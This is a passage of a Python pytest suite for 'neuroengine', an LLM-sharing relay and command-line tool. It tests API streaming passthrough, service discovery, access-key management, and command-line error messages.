            fake_llm() as (_, url):
        upstream = neuroengine.Upstream()
        upstream._urls = [other, url]
        upstream.find()
        assert upstream.transport.base == url
        with pytest.raises(neuroengine.Unavailable) as failed:
            neuroengine.Upstream(other).find()
        assert "relay" not in str(failed.value)


def test_odd_facts_about_a_model_are_taken_for_what_they_are():
    data = [5, {"id": 7}, {"id": "text-embedding-3", "max_model_len": "8192"},
            {"id": "chat", "max_model_len": "4096", "meta": None, "owned_by": "vllm"}]
    with fake_llm(do_GET=lambda self: self.json(200, {"data": data})) as (_, url):
        upstream = neuroengine.Upstream(url)
        upstream.find()
        model = upstream.model()
    assert (model.id, model.context_length, model.vision) == ("chat", 4096, None)


def test_what_a_model_can_take_is_asked_of_the_server():
    props = {"modalities": {"vision": True}, "total_slots": 3, "chat_template_caps": {
        "supports_tools": True}, "default_generation_settings": {"n_ctx": 999}}

    def do_GET(self):
        self.json(200, props if self.path == "/props" else {"data": [{"id": "m"}]})
    with fake_llm(do_GET=do_GET, paths=("/v1/responses", "/tokenize")) as (_, url):
        upstream = neuroengine.Upstream(url)
        upstream.find()
        assert (upstream.kind, upstream.slots) == ("llama.cpp", 3)
        assert upstream.model().features() == {
            "continues": True, "embeddings": False, "context_length": 999, "vision": True,
            "tools": True, "apis": ["chat", "completions", "responses", "tokenize"]}


# Through the real relay, with what servers really have.


def events_by(pairs, last=b""):
    """A scripted answer: a stream of events."""
    def answer(handler):
        handler.send_response(200)
        handler.send_header("Content-Type", "text/event-stream")
        handler.send_header("Connection", "close")
        handler.end_headers()
        handler.wfile.write(sent_as_events(pairs, last))
        handler.close_connection = True
    return answer


@pytest.fixture
def llm_of_all(relay):
    """(the fake LLM server, which has every API; the service's name)."""
    with fake_llm(paths=tuple(neuroengine.PATHS.values())) as (fake, url), \
            bridged(relay, url) as (name, _):
        yield fake, name


@pytest.mark.parametrize("path, body, pairs", [
    ("/v1/messages", {"max_tokens": 9}, ANTHROPIC), ("/v1/responses", {"input": "x"}, RESPONSES),
    ("/v1/chat/completions", {"n": 2, "messages": [{"role": "user", "content": "x"}]}, CHOICES),
    ("/v1/completions", {"prompt": ["a", "b"]}, CHOICES)])
def test_a_stream_of_any_api_passes_from_the_server_to_the_client(
        relay, llm_of_all, path, body, pairs):
    fake, name = llm_of_all
    body = dict({"messages": [{"role": "user", "content": "x"}]} if "messages" in path else {},
                **body)
    fake.script.append(events_by(pairs))
    status, data, headers = ask(relay, path, dict(body, model=name, stream=True))
    assert status == 200 and headers["Content-Type"].startswith("text/event-stream")
    shown = [pair for pair in pairs if pair[1].get("choices") != []]
    events = [json.loads(line[5:]) for line in data.decode().splitlines()
              if line.startswith("data:") and "[DONE]" not in line]
    assert [event.get("type") for event in events] == [kind or None for kind, _ in shown]
    assert "secret" not in data.decode() and fake.got[-1][1]["model"] == "/secret/model.gguf"
    fake.script.append(events_by(pairs[:2]))   # dies amid its answer
    data = ask(relay, path, dict(body, model=name, stream=True))[1].decode()
    assert "ended in the middle" in data and "error" in data.splitlines()[-2]


def test_a_whole_answer_and_an_error_of_any_api_pass_from_the_server_to_the_client(
        relay, llm_of_all):
    fake, name = llm_of_all
    answer = {"model": "/secret/model.gguf", "content": [{"text": "x"}], "odd": [1]}
    body = {"model": name, "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}
    fake.script += [(200, answer), (429, {"error": {"message": "slow down", "type": "t"}}),
                    (400, {"type": "error", "error": {"type": "t", "message": "no thinking"}})]
    assert ask(relay, "/v1/messages", body)[:2] == (200, dict(answer, model=name))
    status, answer, _ = ask(relay, "/v1/messages", body)
    assert (status, answer["error"]["message"]) == (429, "slow down")
    status, answer, _ = ask(relay, "/v1/messages", body)
    assert (status, answer["type"], answer["error"]["message"]) == (400, "error", "no thinking")
    status, answer, _ = ask(relay, "/v1/messages", dict(body, lora=[1]))
    assert status == 400 and "lora" in answer["error"]["message"]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("path, body", [
    ("/v1/messages", {"max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}),
    ("/v1/responses", {"input": "x"}), ("/v1/completions", {"prompt": ["a", "b"]}),
    ("/v1/messages/count_tokens", {"messages": [{"role": "user", "content": "x"}]})])
def test_a_client_that_leaves_while_the_server_reads_its_prompt_ends_that(
        relay, llm_of_all, path, body, stream):
    fake, name = llm_of_all
    gone = threading.Event()

    def prefill(handler):                      # says nothing until its peer has gone
        if handler.connection.recv(1) == b"":
            gone.set()
    fake.script.append(prefill)
    sock = sent(relay, path, dict(body, model=name, stream=stream))
    until(lambda: not fake.script)
    sock.close()
    assert gone.wait(SOON)


def test_refusals_and_annotations_reach_the_client_streamed_and_whole(relay, llm_of_all):
    fake, name = llm_of_all
    more = {"refusal": "no", "annotations": [{"type": "url_citation"}]}
    for stream in (False, True):
        fake.script.append([more, "x"])
        answer = chat(relay, name, stream=stream)[1]
        text = answer.decode() if stream else json.dumps(answer, separators=(",", ":"))
        assert '"refusal":"no"' in text and '"url_citation"' in text


##############################################################################
# Command lines, signals, and what a crash leaves
##############################################################################


def as_module(args):
    """-m for one of our two files: Python keeps the bytecode of modules, and compiling it
    would take longer than all else of a start."""
    module, extension = os.path.splitext(args[0])
    known = extension == ".py" and module in ("neuroengine", "neuroengine_server")
    return (["-m", module] if known else args[:1]) + args[1:]


class Program:
    """One of our programs, started as a user would, with its output gathered."""

    def __init__(self, *args, **environment):
        self.process = subprocess.Popen(
            [sys.executable, "-u"] + as_module([str(a) for a in args]),
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
            cwd=HERE, env=dict(os.environ, **environment))
        self.output = ""
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self):
        for line in self.process.stdout:
            self.output += line.decode("utf-8", "replace")

    def says(self, pattern, seconds=SOON):
        return until(lambda: re.search(pattern, self.output), seconds)

    def end(self, number=signal.SIGTERM):
        with contextlib.suppress(OSError):
            self.process.send_signal(number)
        return self.ended()

    def ended(self):
        """Wait until it has ended and all its output was read; its exit status."""
        code = self.process.wait(patient(40))
        self._reader.join(SOON)
        self.process.stdout.close()
        return code


def free_port():
    """A port that stays free: below those that the system gives to others meanwhile. Not by
    random itself, which a plugin of pytest may have seeded alike in all processes."""
    while True:
        port = random.SystemRandom().randrange(10000, 30000)
        with contextlib.suppress(OSError), socket.socket() as sock:
            sock.bind(("", port))
            return port


class Address:
    """Where a relay in another process listens; stands for a Relay in `ask`."""

    def __init__(self, program):
        self.url = program.says(r"listens at (http\S+)").group(1)
        self.server_address = "127.0.0.1", int(self.url.rsplit(":", 1)[1])


@pytest.fixture
def start(tmp_path):
    """Start programs; those that still run at the end are killed."""
    programs = []

    def start(*args, **environment):
        environment.setdefault("NEUROENGINE_HOME", str(tmp_path / "home"))
        programs.append(Program(*args, **environment))
        return programs[-1]
    yield start
    for program in programs:
        if program.process.poll() is None:
            program.end(getattr(signal, "SIGKILL", signal.SIGTERM))


def start_relay(start, tmp_path, *more, port=0):
    program = start("neuroengine_server.py", "--host", "127.0.0.1", "--port", port,
                    "--data", tmp_path / "data.sqlite3", *more)
    return program, Address(program)


PROVIDER = """
import sys, time
from neuroengine import NeuroengineServer
def answer(request):
    for n in range(int(request["message"])):
        yield "%d " % n
        time.sleep(float((sys.argv[4:] or ["0.01"])[0]))
server = NeuroengineServer(sys.argv[1])
print("login", server.login(sys.argv[2], sys.argv[3]))
server.listen(answer, workers=4)
print("listen returned")
"""


def numbers(count):
    return "".join("%d " % n for n in range(count))


def test_the_demo_is_a_working_chat_in_one_command(start):
    program = start("neuroengine_server.py", "--demo", "--port", 0)
    relay = Address(program)
    assert "Hello" in Neuroengine("Eliza", relay.url).request("Hello, how are you?")
    assert "".join(Neuroengine("eliza", relay.url).stream("Why?")).startswith("What do")
    assert program.end(signal.SIGINT) == 0 and "Traceback" not in program.output


def test_share_serves_a_local_llm_and_keeps_its_key_private(start, tmp_path):
    _, relay = start_relay(start, tmp_path)
    fake = type("Fake", (FakeLLM,), {"got": [], "script": []})
    with serving(fake) as url:
        for _ in range(2):                 # the second time it has its key
            share = start("neuroengine.py", "share", "Mine", "--upstream", url,
                          NEUROENGINE_SERVER=relay.url)
            share.says("Try it: curl " + relay.url)
            assert Neuroengine("Mine", relay.url).request("hi") == "Hello"
            assert share.end() == 0
            assert not Neuroengine("Mine", relay.url).getModels()[0]["connected"]
    key, = (tmp_path / "home").glob("*/mine.key")
    assert os.name == "nt" or key.stat().st_mode & 0o777 == 0o600


def test_share_of_a_private_service_prints_a_line_that_tries_it(start, command, provide, relay):
    fake = type("Fake", (FakeLLM,), {"got": [], "script": []})
    name = name_of()
    command(relay, "register", name), command(relay, "keys", name, "--private")
    with serving(fake) as url:
        share = start("neuroengine.py", "share", name, "--upstream", url,
                      NEUROENGINE_SERVER=relay.url)
        share.says("It is private: guests need an access key")
        line = "ask --relay %s --service %s 'Hello!'" % (relay.url, name)
        share.says("Try it: %s %s" % (neuroengine.how_to_run("neuroengine.py"), line if os.name
                                      != "nt" else line.replace("'", "")))
        status, text = command(relay, *line.replace("'", "").split())
        assert (status, text) == (0, "Hello\n%s is private: asking as its operator, whose key is "
                                     "here.\n" % name)
        assert share.end() == 0


def test_share_tells_a_taken_name_before_the_llm_server_is_there(command, relay):
    name = ask(relay, "/api/services", {"name": name_of()})[1]["name"]
    with serving(FakeLLM) as url:
        pass
    status, text = command(relay, "share", name, "--upstream", url)
    assert status == 1 and "Waiting for it." in text and "is taken" in text


def test_share_outside_its_hours_says_when_they_begin(start, relay):
    fake, hour = type("Fake", (FakeLLM,), {"got": [], "script": []}), time.localtime().tm_hour
    begin = (hour + 2) % 24
    with serving(fake) as url:
        share = start("neuroengine.py", "share", name_of(), "--upstream", url, "--hours",
                      "%d-%d" % (begin, (hour + 3) % 24), NEUROENGINE_SERVER=relay.url)
        share.says("Closed until %02d:00." % begin)
        assert share.end() == 0
    assert re.search(r"Sharing .* from %02d:00 on\n" % begin, share.output)
    assert "Try it" not in share.output and share.output.count("Closed until") == 1


def test_the_line_that_tries_a_service_trusts_the_certificate_that_share_does(monkeypatch):
    def line(**options):
        options = dict({"ca": None, "insecure": False}, **options)
        return neuroengine.try_it_lines("https://r", "X", types.SimpleNamespace(**options))[0]
    monkeypatch.setattr(neuroengine.os, "name", "posix")
    body = """ https://r/X -d '{"message": "Hello!", "max_new_len": 200}'"""
    assert line(ca="my cert.pem") == "curl --cacert 'my cert.pem'" + body
    assert line(insecure=True) == "curl --insecure" + body and line() == "curl" + body


@pytest.fixture
def command(monkeypatch, tmp_path, capsys):
    """Run neuroengine.py's command line in this process: (exit status, what it printed)."""
    def command(relay, *args):
        monkeypatch.setenv("NEUROENGINE_SERVER", relay.url)
        monkeypatch.setenv("NEUROENGINE_HOME", str(tmp_path / "home"))
        status = neuroengine.main(list(args))
        out, err = capsys.readouterr()
        return status, out + re.sub(r"(?m)^\d{4}-.*\n", "", err)     # not the relay's log
    return command


def test_ask_models_and_register_do_what_they_say(start, command):
    relay = Address(start("neuroengine_server.py", "--demo", "--port", 0))
    program = start("neuroengine.py", "Why?", NEUROENGINE_SERVER=relay.url)
    for args, pattern in ((["I am sad"], "How long have you been sad"),
                          (["ask", "--service", "Eliza", "I am sad"], "been sad"),
                          (["--service", "Eliza", "I am sad"], "been sad"),
                          (["--relay", relay.url, "ask", "I am sad"], "been sad"),
                          (["models"], "Eliza +connected"),
                          (["register", "New"], "Registered New"),
                          (["register", "New"], "New is registered already"),
                          (["ask", "--service", "nosuch", "x"], "no service nosuch")):
        assert re.search(pattern, command(relay, *args)[1])
    program.says("And why do you ask?")
    assert program.ended() == 0 and "Traceback" not in program.output


@pytest.mark.parametrize("closed, words", [
    ({"A": "private"}, "A is private. Give an access key by --key or $NEUROENGINE_ACCESS_KEY."),
    ({"A": "private", "B": "paused"}, "A is private, B is paused. Give an access key"),
    (dict.fromkeys("ABDEFG", "private"), "E is private, F is private, and so on. Give"),
    ({"B": "paused"}, "B is paused. Try again later."), ({}, "No service is connected")])
def test_ask_says_why_no_service_that_is_connected_takes_its_prompt(
        command, relay, monkeypatch, closed, words):
    monkeypatch.setattr(Neuroengine, "getModels", lambda self: [
        {"name": name, "connected": True, kind: True} for name, kind in closed.items()] + [
            {"name": "C", "connected": False}])
    for verb in (["hi"], ["chat"]):
        status, text = command(relay, *verb)
        assert status == 1 and words in text


def test_the_operator_may_ask_a_service_that_is_closed_to_others(
        command, relay, provide, monkeypatch, tmp_path):
    monkeypatch.setenv("NEUROENGINE_HOME", str(tmp_path / "home"))
    name, server = provide(lambda request: "yes")
    path = neuroengine.key_file(relay.url, name)
    neuroengine.save_key(path, server.service_key)
    monkeypatch.setattr(Neuroengine, "getModels", lambda self: [
        {"name": name, "connected": True, "private": True}])
    for options, state in ((["--private"], "private"), (["--open", "--pause"], "paused")):
        assert command(relay, "keys", name, *options)[0] == 0
        for args in (["hi"], ["ask", "--service", name, "hi"]):
            assert command(relay, *args) == (0, "yes\n%s is %s: asking as its operator, whose "
                                                "key is here.\n" % (name, state))
    status, text = command(relay, "ask", "--service", name, "--key", "ne_wrong", "hi")
    assert status == 1 and "paused" in text
    assert command(relay, "keys", name, "--resume", "--private")[0] == 0
    neuroengine.save_key(path, "ne_of_an_earlier_service")
    for _ in range(2):
        status, text = command(relay, "ask", "--service", name, "hi")
        assert status == 1 and "%s is private. Give an access key" % name in text
        with contextlib.suppress(OSError):
            os.remove(path)


def test_a_busy_port_or_a_missing_certificate_is_one_sentence(relay, tmp_path, capfd):
    port = relay.server_address[1]
    for args, words in ((["--port", port, "--host", "127.0.0.1", "--demo"], "Cannot listen"),
                        (["--port", 0, "--key", "k.pem", "--data", tmp_path / "d.sqlite3"],
                         "--cert and --key together"),
                        (["--port", 0, "--cert", "nosuch.pem", "--demo"], "nosuch.pem"),
                        (["--port", 0, "--data", "/nosuch/dir/x"], "/nosuch/dir/x")):
        assert neuroengine_server.main([str(arg) for arg in args]) == 1
        said = capfd.readouterr().err
        assert words in said and said.count("\n") == 1


def test_keys_are_made_listed_and_revoked_from_the_command_line(command, relay):
    def run(*args):
        status, text = command(relay, *args)
        assert status == 0, text
        return text
    name = name_of()
    run("register", name)
    run("keys", name, "--private")
    text = run("keys", name, "--add", "Ann", "--requests-per-day", "5", "--days", "2")
    key = re.search(r"^(ne_\S+)$", text, re.M).group(1)
    assert "%s/%s#k=%s" % (relay.url, name, key) in text
    assert "Others cannot open that link: 127.0.0.1 is this machine. Replace " + relay.url in text
    assert "is private" in Neuroengine(name, relay.url).request("x")
    assert "No provider" in Neuroengine(name, relay.url, key=key).request("x")
    assert "3 prompts a day now, when it is open." in run("keys", name, "--anonymous", "3")
    listed = run("keys", name)
    assert "; when it is open, callers without a key have 3 prompts a day." in listed
    assert "Ann" in listed and "requests per day 5" in listed and key not in listed
    assert "requests per day 0" in run("keys", name, "--change", "ann", "--requests-per-day", "0")
    text = run("keys", name, "--change", "ann", "--requests-per-day", "none", "--concurrency",
               "3", "--days", "none")
    assert "concurrency 3" in text and "requests per day" not in text and "until" not in text
    assert "no access key Bob" in command(relay, "keys", name, "--revoke", "Bob")[1]
    assert "are called Bob" not in run("keys", name, "--add", "Bob")
    assert "2 keys are called bob: --change and --revoke take their IDs" in run(
        "keys", name, "--add", "bob")
    assert "has 2 access keys Bob: name one by its ID" in command(
        relay, "keys", name, "--revoke", "Bob")[1]
    run("keys", name, "--revoke", listed.splitlines()[1].split()[0])
    assert "key is not valid" in Neuroengine(name, relay.url, key=key).request("x")
    assert "is open now" in run("keys", name, "--open")


def test_a_service_is_paused_resumed_and_drained_from_the_command_line(
        start, command, relay, provide):
    go = threading.Event()

    def answer(request):
        yield "a"
        assert go.wait(SOON)
    name, provider = provide(answer)
    keys = ["keys", name, "--key", provider.service_key]
    api, service = client_of(relay, name), relay.broker.find(name)
    assert "is paused now" in command(relay, *keys, "--pause")[1]
    assert "paused" in api.request("x")
    assert "takes prompts again" in command(relay, *keys, "--resume")[1]
    first, second = in_thread(api.request, "x"), in_thread(api.request, "y")
    until(lambda: service.queue.size == 1)
    for number in range(2):
        drain = start("neuroengine.py", "--relay", relay.url, *keys, "--drain")
        drain.says("1 waiting, 1 running")
        if not number:
            assert drain.end(signal.SIGINT) == 130 and service.paused
            drain.says("stays paused")
    go.set()
    drain.says("can be stopped now")
    assert first() == second() == "a" and drain.process.wait(SOON) == 0


@pytest.mark.parametrize("args, sent, words", [
    (["--anonymous", "5"], {"anonymous_per_day": 5}, "key 5 prompts a day"),
    (["--anonymous", "0"], {"anonymous_per_day": 0}, "key 0 prompts a day"),
    (["--anonymous", "default"], {"anonymous_per_day": None}, "the relay's number"),
    (["--private"], {"private": True}, "is private"), (["--open"], {"private": False}, "open"),
    (["--pause"], {"paused": True}, "is paused"), (["--resume"], {"paused": False}, "again")])
def test_keys_sends_what_it_says(relay, command, monkeypatch, args, sent, words):
    calls = []
    monkeypatch.setattr(neuroengine.Transport, "call", lambda self, method, path, body, key:
                        calls.append((method, path, body)))
    status, text = command(relay, "keys", "My.1", *args)
    assert (status, calls) == (0, [("PATCH", "/api/services/My.1", sent)])
    assert words in text


@pytest.mark.parametrize("how", ["option", "environment"])
def test_an_invitation_is_sent_and_the_relays_words_are_shown(
        relay, command, monkeypatch, how):
    bodies = []

    def call(self, method, path, body, **more):
        bodies.append(body)
        raise NeuroengineError(35, "A new service needs an invitation.", "invitation_needed")
    monkeypatch.setattr(neuroengine.Transport, "call", call)
    monkeypatch.setattr(neuroengine.Upstream, "wait", lambda *args: None)
    monkeypatch.setattr(neuroengine.Bridge, "learn", lambda self: None)
    monkeypatch.delenv("NEUROENGINE_KEY", raising=False)
    args = ["--invitation", "code"] if how == "option" else []
    if how == "environment":
        monkeypatch.setenv("NEUROENGINE_INVITATION", "code")
    for verb in ("register", "share"):
        status, text = command(relay, verb, "New", *args)
        assert status == 1 and "needs an invitation" in text
    assert [body["invitation"] for body in bodies] == ["code", "code"]


def test_a_key_that_cannot_be_kept_is_not_asked_for(start, relay, tmp_path):
    (tmp_path / "file").write_text("in the way")
    name = name_of()
    program = start("neuroengine.py", "register", name, NEUROENGINE_SERVER=relay.url,
                    NEUROENGINE_HOME=str(tmp_path / "file"))
    program.says("could not be kept")
    assert "Traceback" not in program.output
    assert ask(relay, "/api/services", {"name": name})[0] == 201


@pytest.mark.parametrize("args", [["register"], ["new-key"]])
def test_a_new_key_that_cannot_be_kept_is_shown(command, relay, monkeypatch, tmp_path, args):
    """A file that is mounted by itself, as Docker and Kubernetes do, cannot be replaced."""
    name, replace = name_of(), os.replace
    if args != ["register"]:
        assert command(relay, "register", name)[0] == 0

    def busy(old, new):
        if new.endswith(".key"):
            raise OSError(errno.EBUSY, "Device or resource busy", new)
        replace(old, new)
    monkeypatch.setattr(os, "replace", busy)
    status, text = command(relay, *args, name)
    key = re.search("^ne_.*", text, re.M).group()
    assert status == 1 and "could not be kept in %s" % tmp_path in text
    assert ask(relay, "/api/services/" + name, Authorization="Bearer " + key)[0] == 200


def test_a_key_that_cannot_follow_its_renamed_service_is_said_to_have_stayed(
        command, relay, monkeypatch):
    name, new = name_of(), name_of()
    assert command(relay, "register", name)[0] == 0
    before = neuroengine.save_key

    def full(path, key):
        if key:
            raise OSError(errno.ENOSPC, "No space left on device", path)
        before(path, key)
    monkeypatch.setattr(neuroengine, "save_key", full)
    status, text = command(relay, "rename", name, new)
    old = text.strip(".\n").split(" ")[-1]
    assert status == 1 and "is called %s now" % new in text
    monkeypatch.undo()
    assert command(relay, "describe", new, "--key-file", old)[0] == 0


def test_a_file_that_fails_is_not_called_the_output(command, relay, monkeypatch):
    def fail(options):
        raise PermissionError(errno.EACCES, "Permission denied", "/some/file")
    monkeypatch.setitem(neuroengine.COMMANDS, "models", fail)
    monkeypatch.setattr(os, "dup2", lambda *_: None)
    assert command(relay, "models") == (1, "/some/file: Permission denied.\n")


@pytest.fixture
def typed(command, monkeypatch, relay):
    """Run a command line with a standard input: (exit status, what it printed)."""
    def typed(text, *args):
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(
            text if isinstance(text, bytes) else text.encode())))
        return command(relay, *args)
    return typed


def test_ask_puts_standard_input_where_the_dash_stands(typed, provide):
    got = []
    name, _ = provide(lambda request: got.append(request) or "ok")
    for args, message in ((["-"], "in\n"), (["Review this", "-"], "Review this\n\nin\n"),
                          (["-", "Sum up"], "in\n\n\nSum up"), (["left alone"], "left alone")):
        assert typed("in\n", "ask", "--service", name, *args) == (0, "ok\n")
        assert got.pop()["message"] == message
    assert typed(b"caf\xe9", "ask", "--service", name, "-")[0] == 0
    assert got.pop()["message"] == "caf\ufffd"
    typed("", "--service", name, "x", "--system", "Be brief", "--top-p", "0.5", "--seed", "3")
    request = got.pop()
    assert request["messages"][0] == {"role": "system", "content": "Be brief"}
    assert (request["top_p"], request["seed"]) == (0.5, 3)


def test_ask_as_json_and_an_answer_that_was_cut(command, relay, provide):
    name, _ = provide(lambda request: ["cut", {"finish_reason": "length"}])
    status, text = command(relay, "ask", "--service", name, "x", "--json")
    answer = json.loads(text)
    assert (status, answer["reply"], answer["finish_reason"]) == (0, "cut", "length")
    assert answer["stats"]["tokens"] == 1
    assert "limit of 1000 tokens: --max-new-len" in command(relay, "ask", "--service", name, "x")[1]
    status, text = command(relay, "ask", "--service", "nosuch", "x", "--json")
    assert status == 1 and json.loads(text)["error"] == "service_unknown"


@pytest.mark.parametrize("args, words", [
    (["hello", "world"], 'quote the prompt: neuroengine.py ask "hello world"'),
    (["ask"], "what is the prompt"), (["ask", ""], "the prompt is empty"),
    (["models", "--relai", "x"], "unknown option --relai; did you mean --relay?"),
    (["ask", "x", "--prot", "8000"], "unknown option --prot"),
    (["list"], "`models` lists the services. (To send it as a prompt: ask"),
    (["doctor"], "neuroengine_server.py doctor"),
    (["aks", "hello"], 'did you mean ask? (To send it as a prompt: ask "aks")'),
    (["rename", "X"], "the new name is missing"), (["ask", "--model", "x"], "mean --service?"),
    (["keys", "X", "--concurrency", "2"], "whose limits? Add --add LABEL"),
    (["keys", "X", "--change", "Bob"], "--change needs limits"),
    (["register", "ne_" + 40 * "x"], "a key stands where the name of the service belongs"),
    (["ne_" + 40 * "x"], "the prompt is a key: nothing was sent"),
    (["keys", "X", "ne_" + 40 * "x"], "keys does not take ne_..."),
    (["modles"], "did you mean models?"), (["shre", "X"], "did you mean share?"),
    (["share", "X", "--workers", "0"], "--workers must be a whole number, at least 1"),
    (["share", "X", "--max-tokens", "-5"], "--max-tokens must be"),
    (["ask", "x", "--temperature", "nan"], "--temperature must be a number"),
    (["ask", "x", "--seed"], "--seed needs a value"), (["keys"], "name of the service is missing"),
    (["keys", "X", "--pause", "--resume"], "--resume does not go with --pause"),
    (["keys", "X", "--add", "Bob", "--days", "0"], "--days must be above 0"),
    (["models", "x"], "models does not take x"),
    (["share"], "the name of the service is missing: share NAME"),
    (["share", "--upstream", "8080"], "the name of the service is missing: share NAME")])
def test_a_command_line_that_is_not_right_is_told_in_words(command, relay, args, words):
    status, text = command(relay, *args)
    assert status == 2 and words in text and text.count("\n") == 1


def test_an_option_may_stand_before_its_command(command, relay):
    for args in (["--relay", relay.url, "models"], ["--insecure", "models", "--json"],
                 ["--relay=" + relay.url, "models"]):
        assert command(relay, *args)[0] == 0
    assert "LLM server" not in command(relay, "--service", "models", "hi")[1]


@pytest.mark.parametrize("content, words", [
    (None, "cannot be read: No such file"), (b"", "is empty"), (b" \n", "is empty"),
    (b"\x00\x01\xff", "is not a valid key"), (b"ne_a\nne_b\n", "is not a valid key")])
def test_a_key_file_that_is_no_key_file_is_named_with_its_trouble(
        command, relay, tmp_path, content, words):
    path = tmp_path / "my.key"
    if content is not None:
        path.write_bytes(content)
    status, text = command(relay, "keys", "Any", "--key-file", str(path))
    assert status == 1 and words in text and str(path) in text


def test_wrong_and_missing_keys_and_files_are_told_by_their_source(
        command, relay, hand, monkeypatch):
    for args, words in ((["--key", "ne_no"], "It comes from --key."),
                        ([], "give one by --key-file"),
                        (["--key", "a\nb"], "--key is not a valid key")):
        assert words in command(relay, "keys", hand.name, *args)[1]
    monkeypatch.setenv("NEUROENGINE_KEY", "ne_no")
    assert "may belong to another service" in command(relay, "keys", hand.name)[1]
    assert command(relay, "keys", hand.name, "--key", hand.key)[0] == 0
    monkeypatch.setenv("NEUROENGINE_ACCESS_KEY", "x\x07y")
    assert "$NEUROENGINE_ACCESS_KEY is not a valid key" in command(relay, "models")[1]
    assert "nofile cannot be used: No such" in command(relay, "models", "--ca", "nofile")[1]
    assert "holds no certificate" in command(relay, "models", "--ca", __file__)[1]


def test_a_key_file_of_powershell_is_read(tmp_path):
    for encoding in ("utf-16", "utf-8-sig"):
        (tmp_path / "k").write_bytes("ne_key\r\n".encode(encoding))
        assert neuroengine.read_key(str(tmp_path / "k")) == "ne_key"


def test_chat_takes_its_time_to_find_a_service_that_is_just_registered(
        command, monkeypatch):
    lists = [[], [{"name": "New", "connected": True}]]
    monkeypatch.setattr(neuroengine, "models_of", lambda client: lists.pop(0))
    monkeypatch.setattr(neuroengine, "LIST_SECONDS", 0.01)
    monkeypatch.setattr(neuroengine, "is_terminal", lambda stream: stream is sys.stdin)
    monkeypatch.setattr("builtins.input", lambda prompt: (_ for _ in ()).throw(EOFError()))
    relay = types.SimpleNamespace(url="http://127.0.0.1:1")
    status, text = command(relay, "chat", "--service", "New")
    assert status == 0 and "Talking to New" in text and not lists


def test_chat_on_a_terminal_says_at_once_that_nobody_will_answer(command, relay, monkeypatch):
    hand = Hand(relay)
    hand.logout()
    monkeypatch.setattr(neuroengine, "is_terminal", lambda stream: stream is sys.stdin)
    monkeypatch.setattr("builtins.input", lambda prompt: (_ for _ in ()).throw(EOFError()))
    monkeypatch.setattr(neuroengine, "LIST_SECONDS", 0.01)
    status, text = command(relay, "chat", "--service", "nosuch")
    assert status == 1 and "There is no service nosuch at" in text and "Talking" not in text
    status, text = command(relay, "chat", "--service", hand.name)
    assert status == 0 and "%s is offline, last seen " % hand.name in text and "Talking to" in text


def test_a_key_that_is_not_used_is_said_not_to_be(command, relay, monkeypatch):
    mine, other, third = name_of(), name_of(), name_of()
    key = command(relay, "register", mine)[1].split()[-1]
    assert "no service %s yet, and a new one gets a key of its own" % other in command(
        relay, "register", other, "--key", key)[1]
    monkeypatch.setenv("NEUROENGINE_KEY", key)
    status, text = command(relay, "keys", other, "--private")
    assert status == 0 and "not the key of %s: using the key file" % other in text
    monkeypatch.setenv("NEUROENGINE_HOME", "/nosuch")
    assert "There is no service %s at" % third in command(relay, "keys", third)[1]


def test_rename_takes_the_key_file_along(command, relay, tmp_path):
    name, new = name_of(), name_of()
    command(relay, "register", name)
    status, text = command(relay, "rename", name, new)
    assert status == 0 and "is called %s now" % new in text
    files = [path.name for path in (tmp_path / "home").glob("*/*")]
    assert files == [new.lower() + ".key"]
    assert "no access keys" in command(relay, "keys", new)[1]
    assert "`register %s` makes one" % name in command(relay, "keys", name)[1]


def test_a_reserved_name_is_registered_again_with_its_old_key(command, relay, provide, tmp_path):
    name, new = name_of(), name_of()
    key = command(relay, "register", name)[1].split()[-1]
    assert NeuroengineServer(relay.url).login(name, key) == 0
    command(relay, "rename", name, new)
    assert "is reserved" in command(relay, "register", name)[1]
    status, text = command(relay, "register", name, "--key", key)
    assert status == 0 and "Registered %s" % name in text


def test_the_live_line_of_a_provider_is_gone_when_it_ends(relay, hand):
    class Terminal(io.StringIO):
        def isatty(self):
            return True
    status = neuroengine.Status(stream=Terminal())
    status.show()
    assert "waiting" in status.stream.getvalue().rpartition("\r")[2]
    status.close()
    status.show()
    assert status.stream.getvalue().rpartition("\r")[2] == ""


def test_ctrl_d_at_the_question_deletes_nothing(command, relay, monkeypatch):
    name = name_of()
    command(relay, "register", name)
    monkeypatch.setattr(neuroengine, "is_terminal", lambda stream: True)

    def ctrl_d(prompt):
        raise EOFError
    monkeypatch.setattr("builtins.input", ctrl_d)
    status, text = command(relay, "unregister", name)
    assert status == 1 and "Nothing was deleted" in text and relay.broker.find(name)


def test_a_folder_that_cannot_be_written_is_named_with_what_named_it(command, relay, tmp_path):
    name = name_of()
    command(relay, "register", name)
    (tmp_path / "file").write_text("in the way")
    where = str(tmp_path / "file" / "key")
    text = command(relay, "new-key", name, "--key-file", where)[1]
    assert where in text and "NEUROENGINE_HOME" not in text


def test_registering_twice_gives_the_key_again(command, relay):
    name = name_of()
    first, second = (command(relay, "register", name) for _ in range(2))
    assert first[0] == second[0] == 0 and "registered already" in second[1]
    assert first[1].split()[-1] == second[1].split()[-1]      # as README's `tail -n 1` has it
    taken = name_of()
    ask(relay, "/api/services", {"name": taken})
    status, text = command(relay, "register", taken)
    assert status == 1 and "taken" in text and "--key-file" in text


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX permissions")
@pytest.mark.parametrize("address", [
    "relay.example", "https://relay.example", "https://Relay.example:443/",
    "https://me:secret@relay.example"])
def test_a_relay_has_one_folder_of_keys_however_it_is_spelled(address, monkeypatch, tmp_path):
    monkeypatch.setenv("NEUROENGINE_HOME", str(tmp_path))

    def folder(address):
        path = neuroengine.key_file(neuroengine.relay_url(address), "X")
        return os.path.relpath(os.path.dirname(path), str(tmp_path))
    assert folder(address) == "relay.example%3A443"
    assert folder("https://relay.example/a") != folder("https://relay.example/b") != folder(address)
    (tmp_path / "relay.example").mkdir()
    (tmp_path / "relay.example" / "x.key").write_text("ne_x")
    assert folder(address) == "relay.example"      # where it was before
    neuroengine.key_file("https://relay.example:99999", "X")


def test_a_saved_key_is_for_its_owner_alone_whatever_was_there(tmp_path):
    path = tmp_path / "new" / "x.key"
    for _ in range(2):
        neuroengine.save_key(str(path), "ne_x")
